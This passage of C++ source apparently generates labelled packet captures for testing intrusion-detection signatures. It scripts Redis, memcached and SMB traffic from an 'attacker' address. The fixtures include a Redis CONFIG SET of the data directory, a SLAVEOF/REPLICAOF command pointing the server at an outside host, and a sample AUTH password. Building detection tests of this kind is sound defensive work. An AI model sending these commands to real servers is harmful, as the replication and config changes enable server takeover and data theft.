              {0, cmd, cut(cmd, "CONFIG\r\n$3\r\nSET", 9)}, {1, "+OK\r\n", 0}});
     },
     // CONFIG GET from outside; CONFIG SET from the admin network.
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.redis, kRedis,
             {{0, resp({"CONFIG", "GET", "dir"}), 0}, {1, "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n", 0}});
       c.tcp(n.admin, n.redis, kRedis,
             {{0, resp({"CONFIG", "SET", "dir", "/data/redis"}), 0}, {1, "+OK\r\n", 0}});
     }},
    {8100402,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.redis, kRedis, {{0, "SLAVEOF 198.18.7.7 21000\r\n", 0}, {1, "+OK\r\n", 0}});
     },
     // SLAVEOF NO ONE from outside; REPLICAOF after AUTH.
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.redis, kRedis, {{0, "SLAVEOF NO ONE\r\n", 0}, {1, "+OK\r\n", 0}});
       c.tcp(n.attacker, n.redis, kRedis,
             {{0, resp({"AUTH", "R3d1s-Pr0d"}), 0}, {1, "+OK\r\n", 0},
              {0, resp({"REPLICAOF", "198.18.7.7", "6379"}), 0}, {1, "+OK\r\n", 0}});
     }},
    {8100410,
     [](Cap& c, const Net& n) {
       c.udp(n.attacker, n.memcached, kMemcached, memcached_udp(0x0001, "stats\r\n"),
             memcached_udp(0x0001, "STAT pid 2231\r\nSTAT uptime 86400\r\nSTAT curr_connections 12\r\nEND\r\n"));
     },
     // stats from the admin network; a get from outside.
     [](Cap& c, const Net& n) {
       c.udp(n.admin, n.memcached, kMemcached, memcached_udp(0x0002, "stats\r\n"),
             memcached_udp(0x0002, "STAT pid 2231\r\nEND\r\n"));
       c.udp(n.attacker, n.memcached, kMemcached, memcached_udp(0x0003, "get session:1\r\n"),
             memcached_udp(0x0003, "END\r\n"));
     }},
    {8100420,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.files, kSmb, {{0, smb2_negotiate(), 0}, {1, smb2_negotiate_reply(), 0}});
     },
     // The same negotiate from an internal workstation; a non-SMB probe of 445 from outside.
     [](Cap& c, const Net& n) {
       c.tcp(n.user, n.files, kSmb, {{0, smb2_negotiate(), 0}, {1, smb2_negotiate_reply(), 0}});
       c.tcp(n.attacker, n.files, kSmb, {{0, std::string("\x00\x00\x00\x08" "ABCDSMB!", 12), 0}});
     }},
};

}  // namespace

bool run_attacks(const GenOptions& opt, const std::string& dir, uint64_t* packets,
                 uint64_t* bytes, int* files) {
  Rng rng(opt.seed);
  Net net;
  uint64_t slot = 0;
  for (const Case& k : kCases) {
    // File-name order is time order: <sid>.neg before <sid>.pos.
    for (int pos = 0; pos < 2; ++pos) {
      Cap cap(rng, opt.start_us + slot++ * kSlotUs);
      (pos ? k.pos : k.neg)(cap, net);
      std::string path = dir + "/" + std::to_string(k.sid) + (pos ? ".pos.pcap" : ".neg.pcap");
      if (!cap.write(path, packets, bytes)) return false;
      ++*files;
    }
  }
  return true;
}

}  // namespace tsgen
